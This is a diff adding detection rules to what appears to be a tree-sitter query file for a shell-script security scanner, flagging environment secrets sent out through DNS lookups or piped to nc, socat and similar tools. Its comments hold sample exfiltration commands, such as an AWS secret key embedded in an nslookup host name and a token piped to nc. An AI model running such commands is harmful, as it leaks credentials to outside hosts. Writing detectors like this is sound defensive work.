@@ -112,6 +112,23 @@
  (#set! severity "high")
  (#set! message "pipes a secret of the environment into a name lookup or a raw network connection"))
 
+; k=$AWS_SECRET_ACCESS_KEY; nslookup "$k.x.example", tok() { printenv
+; TOKEN; }; dig "$(tok).x.example", tok | nc h 9: the same secret kept in
+; a variable or printed by the program's own function
+((command argument: (_) @arg) @n @finding
+ (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6")
+ (#bound-text-match? @arg "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "puts a secret of the environment into a host name it looks up: sent out through DNS"))
+
+((pipeline (_) @src (_) @sink) @finding
+ (#contains-call? @sink "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv")
+ (#bound-text-match? @src "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "pipes a secret of the environment into a name lookup or a raw network connection"))
+
 ; openssl s_client -connect h:443: a TLS connection (what is piped into it
 ; is sent)
 ((command argument: (_) @arg) @n @finding
